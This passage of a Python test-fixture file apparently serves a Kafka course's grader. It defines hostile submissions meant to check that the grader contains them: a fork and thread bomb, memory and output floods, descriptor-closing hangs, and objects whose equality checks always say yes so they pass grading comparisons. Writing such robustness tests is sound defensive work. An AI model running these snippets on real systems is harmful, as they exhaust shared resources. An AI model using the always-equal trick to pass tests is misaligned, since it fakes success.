                "shared references and stops encoding at its size limit (no hang, no memory "
                "blow-up); the exercise fails",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    value = []\n"
                "    for _ in range(80):\n"
                "        value = [value, value]\n"
                "    return value\n",
                ("offsets.partition_lag",), "grades-lost"),
        _sample("hostile-huge-exception", "offsets",
                "partition_lag raises an exception with a 25 MB message: a sound grader reads "
                "replies with a size limit and shows a short failure",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    raise ValueError('x' * 25_000_000)\n",
                ("offsets.partition_lag",), "grades-lost", kit=False),
        _sample("hostile-huge-return", "offsets",
                "partition_lag returns a 25 MB string: a sound grader reads replies with a size "
                "limit and shows a short failure",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    return 'x' * 25_000_000\n",
                ("offsets.partition_lag",), "grades-lost", kit=False),
        _sample("hostile-slow-calls", "offsets",
                f"partition_lag answers right but takes {per_call * 0.9:g} s per call, just under "
                "the per-call timeout, so a grader without a wall-clock budget per exercise "
                "spends minutes on it: a sound grader stops it at the exercise's budget (the "
                "exercise fails, 'time-budget')",
                "def partition_lag(high_watermark, committed_offset):\n"
                f"    time.sleep({per_call * 0.9!r})\n"
                "    return None if committed_offset is None else high_watermark - committed_offset\n",
                ("offsets.partition_lag",), "grades-lost", slow=True),
        _sample("hostile-closed-pipes", "offsets",
                "partition_lag closes descriptors 0 to 1023 (its reply pipe among them), then "
                "blocks forever in os.read on a pipe nobody writes: a sound grader notices "
                "(crash or timeout), kills it, and fails only this exercise",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    stuck, _ = os.pipe()\n"
                "    for fd in range(1024):\n"
                "        if fd != stuck:\n"
                "            _try(os.close, fd)\n"
                "    while True:\n"
                "        _try(os.read, stuck, 1)\n",
                ("offsets.partition_lag",), "grades-lost"),
        _sample("hostile-fork-bomb", "offsets",
                "partition_lag forks up to 300 sleeping processes and starts up to 2,000 "
                "sleeping threads: a sound grader's process limit stops it, everything dies "
                "with the sandbox, and only this exercise fails",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    import threading\n"
                "    _name_me(_AIM['marker'])\n"
                "    for _ in range(300):\n"
                "        try:\n"
                "            if os.fork() == 0:\n"
                "                time.sleep(60)\n"
                "                os._exit(0)\n"
                "        except Exception:\n"
                "            break\n"
                "    for _ in range(2000):\n"
                "        try:\n"
                "            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
                "        except Exception:\n"
                "            break\n"
                "    return -7\n",
                ("offsets.partition_lag",), "grades-lost"),
        _sample("hostile-memory", "offsets",
                "partition_lag allocates memory until refused (then keeps what it got and "
                "allocates more): a sound grader's memory limit stops it; only this exercise fails",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    hoard = []\n"
                "    for _ in range(64):\n"
                "        try:\n"
                "            hoard.append(bytearray(256 << 20))\n"
                "        except MemoryError:\n"
                "            break\n"
                "    return -len(hoard) - 1\n",
                ("offsets.partition_lag",), "grades-lost", kit=False),
        _sample("hostile-print-flood", "offsets",
                "partition_lag prints 25 MB (its marker first) to stdout and stderr and through "
                "fds 1 and 2: a sound grader's output and feedback show none of it",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    flood = _AIM['marker'] + ' ' + 'y' * 25_000_000\n"
                "    for stream in (sys.stdout, sys.stderr):\n"
                "        _try(stream.write, flood)\n"
                "        _try(stream.flush)\n"
                "    for fd in (1, 2):\n"
                "        _try(os.write, fd, flood.encode())\n"
                "    return -7\n",
                ("offsets.partition_lag",), "output"),

        # -- lying objects --------------------------------------------------------------------
        _sample("hostile-lying-types", "partitioning",
                "next_partition returns, in turn, a list subclass whose __eq__ says yes, a "
                "list of int subclasses whose __eq__ says yes, a dict of objects whose __hash__ "
                "raises, a reply written by hand holding a set of lists (unhashable), and a "
                "lying list sent past the worker's checks: a sound grader compares plain "
                "built-in values only and refuses the rest; the exercise fails",
                "class _Yes(list):\n"
                "    def __eq__(self, other):\n"
                "        return True\n"
                "    __hash__ = None\n\n"
                "class _Always(int):\n"
                "    def __eq__(self, other):\n"
                "        return True\n"
                "    def __hash__(self):\n"
                "        return 0\n\n"
                "class _NoHash:\n"
                "    def __hash__(self):\n"
                "        raise RuntimeError('no hash for you')\n"
                "    def __eq__(self, other):\n"
                "        return True\n\n"
                "def next_partition(random_number, num_partitions, available_partitions, queue_sizes):\n"
                "    global _TURN\n"
                "    _TURN = globals().get('_TURN', -1) + 1\n"
                "    turn = _TURN % 5\n"
                "    if turn == 0:\n"
                "        return _Yes([-1])\n"
                "    if turn == 1:\n"
                "        return [_Always(-1)]\n"
                "    if turn == 2:\n"
                "        return {_Always(-1): _NoHash()}\n"
                "    if turn == 3:\n"
                "        _raw_reply(_frame('returned', _unhashable_body()))\n"
                "        time.sleep(60)\n"
                "    _unplain()\n"
                "    return _Yes([_Always(-1)])\n",
                ("partitioning.next_partition",), "lying"),
    ]
    return {s.name: s for s in samples}



HOSTILE = _hostile()

# The few that SAMPLES (so `make demo`, `kafkadojo samples` and the course tests) carries:
# one of most kinds, none that writes anything. All of them together would cost every
# grading path a minute or more: tests/test_hostile.py grades them all, on every path.
DEMO = {name: sample for name, sample in HOSTILE.items() if sample.demo}

# Whichever of samples.py and hostile.py is imported first, SAMPLES ends up with these.
_SAMPLES.update(DEMO)
